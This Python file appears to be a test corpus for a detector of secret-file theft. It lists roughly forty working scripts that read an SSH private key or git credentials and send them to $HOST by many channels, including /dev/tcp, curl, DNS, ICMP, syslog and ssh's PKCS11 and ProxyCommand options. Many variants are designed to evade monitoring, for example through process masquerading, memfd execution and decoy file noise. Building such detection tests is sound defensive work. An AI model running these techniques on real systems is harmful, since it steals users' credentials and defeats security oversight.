# SPDX-License-Identifier: GPL-2.0-or-later
"""What variants.py plays. missed: it is not caught, and what was seen."""

import collections

from net import HOST_V4

# file, content: the decoy, below the play's home; TOKEN in content is the secret. to: the address and port that the
# alert must tell, None for any. pull: the other side connects to that port and says that. host: runs on the other side.
# crowd: more files of this class are touched than an alert names: it tells the class, and that there are more.
Variant = collections.namedtuple("Variant", "family name script missed file content to pull host crowd", defaults=(
    None, ".ssh/id_rsa", None, (HOST_V4, 443), None, None, None))
WEB = (HOST_V4, 8080)

GET = [
    Variant("G", "git-diff", r"""git --no-pager diff --no-index /dev/null "$KEY" >/dev/tcp/$HOST/443; :"""),
    # To the compiler everything is a program.
    Variant("G", "preprocessor", r"""gcc -x c -E -P "$KEY" >/dev/tcp/$HOST/443"""),
    Variant("G", "tar-home", r"""tar -C "$HOME" -czf - . >/dev/tcp/$HOST/443"""),
    # By another process's root, by a program whose errors quote what it reads.
    Variant("G", "date-errors", r"""sleep 60 &
date -f "/proc/$!/root$KEY" 2>/dev/tcp/$HOST/443; :"""),
    # The file is read by threads of a pool, and sent by another.
    Variant("G", "node-stream", r"""node -e '
        const s = require("net").connect(443, process.env.HOST, () =>
            require("fs").createReadStream(process.env.KEY).pipe(s));'"""),
    # The kernel opens the file for who watches it, when somebody else does.
    Variant("G", "fanotify", r"""python3 - <<'END'
import ctypes, os, socket, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.fanotify_init(0, os.O_RDONLY)
if watch < 0 or libc.fanotify_mark(watch, 1, ctypes.c_uint64(0x20), -100, os.environb[b"KEY"]) != 0:
    sys.exit(77)
subprocess.run(["wc", "-c", os.environ["KEY"]], stdout=subprocess.DEVNULL)
event = struct.unpack("IBBHQii", os.read(watch, 24))
loot = os.pread(event[5], 4096, 0)
socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
END"""),
    Variant("G", "map-files", r"""python3 -c '
import mmap, os, signal
f = open(os.environ["KEY"], "rb")
m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)
f.close()
open("mapped", "w").close()
signal.pause()' &
wait_for [ -e mapped ]
for f in /proc/$!/map_files/*; do
    [ "$(readlink "$f")" != "$KEY" ] || head -c 4096 "$f" >/dev/tcp/$HOST/443
done"""),
    # It lies in wait for a key that is not there yet.
    Variant("G", "tail-lurks", r"""mv "$KEY" staged
tail -F "$KEY" 2>/dev/null > >(head -n 3 >/dev/tcp/$HOST/443; >sent) &
wait_for grep -q tail /proc/$!/comm
mv staged "$KEY"
wait_for [ -e sent ]"""),
    # The disk below the file system.
    Variant("G", "raw-disk", r"""unshare -m bash -e <<'END'
truncate -s 4M disk
mke2fs -q -t ext4 disk
mount -o loop disk "$HOME/.ssh" || exit 77
( printf '%s\n' "$TOKEN" >"$KEY"; sync )
grep -ao '[0-9a-f]\{64\}' disk >/dev/tcp/$HOST/443
END""", missed="no file of a class is opened by who reads the device or the image below the file system"),
    Variant("G", "git-credential", r"""printf 'protocol=https\nhost=forge.example\n\n' |
git -c credential.helper=store credential fill | send""",
            file=".git-credentials", content="https://ana:TOKEN@forge.example\n"),
]

HAND = [
    Variant("H", "coproc", r"""coproc OUT { cat >/dev/tcp/$HOST/443; }
exec 9>&"${OUT[1]}"
( mapfile -t lines <"$KEY"; printf '%s\n' "${lines[@]}" >&9 )
exec 9>&-
eval "exec ${OUT[1]}>&-"
wait $OUT_PID"""),
    Variant("H", "python-manager", r"""cat >m.py <<'END'
import multiprocessing, os, socket
def take(queue):
    loot = queue.get()
    socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
def give(queue):
    queue.put(open(os.environ["KEY"], "rb").read())
with multiprocessing.Manager() as manager:
    queue = manager.Queue()
    taker = multiprocessing.Process(target=take, args=(queue,))
    taker.start()
    giver = multiprocessing.Process(target=give, args=(queue,))
    giver.start()
    giver.join()
    taker.join()
END
python3 m.py"""),
    Variant("H", "python-shared-memory", r"""cat >m.py <<'END'
import multiprocessing, os, socket
from multiprocessing.shared_memory import SharedMemory
def take(name, ready):
    memory = SharedMemory(name)
    ready.wait()
    socket.create_connection((os.environ["HOST"], 443)).sendall(bytes(memory.buf))
    memory.close()
def give(name, ready):
    memory = SharedMemory(name)
    loot = open(os.environ["KEY"], "rb").read()
    memory.buf[:len(loot)] = loot
    memory.close()
    ready.set()
memory, ready = SharedMemory(create=True, size=4096), multiprocessing.Event()
takers = [multiprocessing.Process(target=f, args=(memory.name, ready)) for f in (take, give)]
for process in takers:
    process.start()
for process in takers:
    process.join()
memory.unlink()
END
python3 m.py"""),
    Variant("H", "tar-to-tar", r"""mkdir copy
tar -C "$HOME" -cf - .ssh | tar -C copy -xf -
setsid -w curl -s -T copy/.ssh/id_rsa http://$HOST:8080/drop""", to=WEB),
    # Through the object store, packed.
    Variant("H", "git-objects", r"""git init -q repo
git --git-dir=repo/.git --work-tree="$HOME" add -f "$HOME/.ssh"
git --git-dir=repo/.git cat-file -p :.ssh/id_rsa >/dev/tcp/$HOST/443"""),
    Variant("H", "sealed-pipeline", r"""Z=$(printf '0%.0s' {1..32})
cat "$KEY" | gzip | openssl enc -aes-128-ctr -K $Z -iv $Z |
base64 -w0 | rev | tr A-Za-z N-ZA-Mn-za-m | curl -s --data-binary @- http://$HOST:8080/""", to=WEB),
    Variant("H", "message-queue", r"""id=$(perl -e 'print msgget(0, 0600)')
perl -MIO::Socket::INET -e 'msgrcv($ARGV[0], $m, 4096, 0, 0) or die $!;
    msgctl($ARGV[0], 0, 0);
    $s = IO::Socket::INET->new("$ENV{HOST}:443") or die;
    print $s unpack("x[l!] a*", $m)' $id &
perl -e 'local $/; open F, $ENV{KEY}; msgsnd($ARGV[0], pack("l! a*", 1, <F>), 0) or die $!' $id
wait"""),
    # Kept by the kernel, found by its name.
    Variant("H", "keyring", r"""cat >k.py <<'END'
import ctypes, os, platform, socket, sys
add_key, _, keyctl = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
call, name = ctypes.CDLL(None).syscall, b"cache:" + os.environb[b"HOME"]
if sys.argv[1] == "give":
    loot = open(os.environ["KEY"], "rb").read()
    serial = call(add_key, b"user", name, loot, ctypes.c_size_t(len(loot)), -4)
    sys.exit(0 if serial > 0 and call(keyctl, 5, serial, 0x3f3f0000) == 0 else 77)
serial = call(keyctl, 10, -4, b"user", name, 0)
room = ctypes.create_string_buffer(4096)
n = call(keyctl, 11, serial, room, ctypes.c_size_t(4096))
if n < 0:
    sys.exit(77)
call(keyctl, 9, serial, -4)
socket.create_connection((os.environ["HOST"], 443)).sendall(room.raw[:n])
END
python3 k.py give && python3 k.py take""",
            missed="the kernel's keyring carries no mark from who adds a key to who reads it"),
    Variant("H", "script-drop", r"""mkdir spool
( until [ -e spool/job ]; do sleep 0.05; done; . spool/job ) &
( k=$(base64 -w0 "$KEY")
  printf 'exec 3<>/dev/tcp/%s/443; echo %s >&3\n' "$HOST" "$k" >spool/.job
  mv spool/.job spool/job )
wait"""),
    Variant("H", "terminal-log", r"""script -qec 'cat "$KEY"' typescript >/dev/null </dev/null
send <typescript"""),
]

OUT = [
    # Echo requests by a socket that needs no privilege; the answer brings the secret back. The alert names the file,
    # but tells 0.0.0.0 as the destination.
    Variant("E", "ping-socket", r"""echo 0 2147483647 >/proc/sys/net/ipv4/ping_group_range || cannot "no ping sockets"
python3 - <<'END'
import os, socket
loot = open(os.environ["KEY"], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(10)
s.sendto(b"\x08\0\0\0\0\0\0\1" + loot, (os.environ["HOST"], 0))
print(s.recv(4096)[8:].decode())
END""", to=(None, None)),
    Variant("E", "dns-name", r"""echo "nameserver $HOST" >resolv
unshare -m bash <<'END'
mount --bind resolv /etc/resolv.conf || exit 77
t=$(sed -n 2p "$KEY")
RES_OPTIONS="timeout:1 attempts:1" getent ahostsv4 "${t:0:32}.${t:32}.cdn.example."
exit 0
END""", to=(HOST_V4, 53)),
    Variant("E", "git-address", r"""GIT_TERMINAL_PROMPT=0 git ls-remote \
"http://$HOST:8080/$(base64 -w0 "$KEY" | tr +/ -_).git" 2>/dev/null; :""", to=WEB),
    # The secret goes to the network by way of a terminal.
    Variant("E", "shell-with-terminal", r"""python3 - <<'END'
import os, pty, socket
l = socket.create_server(("", 4444))
c, _ = l.accept()
for fd in range(3):
    os.dup2(c.fileno(), fd)
pty.spawn(["/bin/bash", "--norc"])
END""", to=(HOST_V4, None), pull=(4444, "unset HISTFILE; cat '$KEY'; exit\n")),
    Variant("E", "web-server", r"""cd "$HOME" && python3 -c '
import http.server as h
h.HTTPServer(("", 4445), h.SimpleHTTPRequestHandler).handle_request()' 2>/dev/null""",
            to=(HOST_V4, None), pull=(4445, "GET /.ssh/id_rsa HTTP/1.0\r\n\r\n")),
    Variant("E", "tls", r"""wait_for openssl s_client -connect $HOST:4433 -psk 1a2b3c4d -tls1_2 -quiet -no_ign_eof \
<"$KEY" >/dev/null 2>&1""",
            to=(HOST_V4, 4433),
            host="mkfifo hold; exec openssl s_server -accept 4433 -nocert -psk 1a2b3c4d -tls1_2 -quiet <>hold >got"),
    Variant("E", "multicast", r"""python3 - <<'END'
import os, socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
link = [number for number, name in socket.if_nameindex() if name != "lo"][0]
s.sendto(open(os.environ["KEY"], "rb").read(), ("ff02::1", 443, 0, link))
END""", to=("ff02::1", 443)),
    # To an implant that was there before, which talks to the world.
    Variant("E", "loopback-relay", r"""python3 -c '
import os, socket
l = socket.create_server(("127.0.0.1", 9050))
open("ready", "w").close()
c, _ = l.accept()
out = socket.create_connection((os.environ["HOST"], 443))
while piece := c.recv(4096):
    out.sendall(piece)' &
wait_for [ -e ready ]
cat "$KEY" >/dev/tcp/127.0.0.1/9050
wait""", to=(None, None)),
    # A second request on the connection that an honest one has made.
    Variant("E", "keep-alive", r"""node -e '
const http = require("http"), agent = new http.Agent({keepAlive: true, maxSockets: 1});
const post = (body, next) => {
    const r = http.request({host: process.env.HOST, port: 8080, agent, method: "POST"}, answer => {
        answer.resume();
        answer.on("end", next);
    });
    r.end(body);
};
post("hello", () => post(require("fs").readFileSync(process.env.KEY), () => agent.destroy()));'""", to=WEB),
    Variant("E", "logger", r"""logger -n $HOST -P 443 -d -t cron -f "$KEY" """),
]

PERL_THEFT = r"""local $/; open F, $ENV{KEY} or die; $l = <F>;
    $s = IO::Socket::INET->new("$ENV{HOST}:443") or die; print $s $l"""

STATE = [
    Variant("S", "kernel-thread", r"""( exec -a '[kworker/u8:1-events]' perl -MIO::Socket::INET -e '
$0 = "[kworker/u8:1-events]"; """ + PERL_THEFT + "' )"),
    Variant("S", "deleted-copy", r"""cp /usr/bin/perl ssh
./ssh -MIO::Socket::INET -e 'unlink "ssh"; """ + PERL_THEFT + "'"),
    Variant("S", "memfd-copy", r"""export CODE='""" + PERL_THEFT + r"""'
python3 - <<'END'
import os
fd = os.memfd_create("sshd", 0)
os.write(fd, open("/usr/bin/perl", "rb").read())
os.execve(f"/proc/self/fd/{fd}", ["sshd: ana", "-MIO::Socket::INET", "-e", os.environ["CODE"]], os.environ)
END"""),
    # A library that ssh loads because its command line says so.
    Variant("S", "ssh-library", r"""mkdir lib
gcc -shared -fPIC -o lib/p.so -x c - <<'END'
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
int C_GetFunctionList(void) {
        return 1;
}
__attribute__((constructor)) static void steal(void) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
        char loot[4096];
        int s = socket(AF_INET, SOCK_STREAM, 0);
        ssize_t n = read(open(getenv("KEY"), O_RDONLY), loot, sizeof(loot));

        inet_aton(getenv("HOST"), &to.sin_addr);
        if (n < 0 || connect(s, (struct sockaddr *)&to, sizeof(to)) != 0)
                _exit(1);
        _exit(write(s, loot, n) != n);
}
END
chown -R 65534:65534 lib "$KEY"
setpriv --reuid=65534 --regid=65534 --clear-groups \
    ssh -F none -o BatchMode=yes -o PKCS11Provider=$PWD/lib/p.so -p 443 ana@$HOST"""),
    Variant("S", "ssh-proxy-command", r"""echo 'cat "$KEY" >/dev/tcp/$HOST/443' >proxy
ssh -F none -o ProxyCommand='bash proxy' nowhere 2>/dev/null; :"""),
    # Each byte by a process of its own.
    Variant("S", "byte-by-byte", r"""n=$(stat -c %s "$KEY")
for ((i = 0; i < n; i++)); do dd if="$KEY" bs=1 skip=$i count=1 status=none >/dev/udp/$HOST/443; done"""),
    # In namespaces of its own but for a socket of before.
    Variant("S", "all-namespaces", r"""exec 3<>/dev/tcp/$HOST/443
unshare --user --map-root-user --net --mount --pid --uts --ipc --cgroup --fork --mount-proc \
    sh -c 'cat "$KEY" >&3'"""),
    # Three hundred keys touched after the one that counts.
    Variant("S", "crowd-of-keys", r"""( for i in {1..300}; do echo decoy >"$HOME/.ssh/id_$i"; done )
python3 - <<'END'
import glob, os, socket
loot = open(os.environ["KEY"], "rb").read()
for path in glob.glob(os.environ["HOME"] + "/.ssh/id_[0-9]*"):
    open(path, "rb").read()
socket.create_connection((os.environ["HOST"], 443)).sendall(loot)
END""", crowd="ssh-private-keys"),
    # The first alert is harmless; the rest is sent over the same connection by the same process.
    Variant("S", "harmless-first", r"""( echo ls >"$HOME/.bash_history" )
python3 - <<'END'
import os, socket
open(os.environ["HOME"] + "/.bash_history").read()
s = socket.create_connection((os.environ["HOST"], 443))
for _ in range(50):
    s.sendall(b"ls\n")
s.sendall(open(os.environ["KEY"], "rb").read())
END"""),
    # ssh takes the key for its configuration, and complains about each line to a descriptor that is a connection.
    Variant("S", "ssh-errors", r"""ssh -F "$KEY" nowhere 2>/dev/tcp/$HOST/443; :""",
            missed="ssh may read such keys and talk to anybody, and it is ssh itself that sends"),
]

VARIANTS = GET + HAND + OUT + STATE
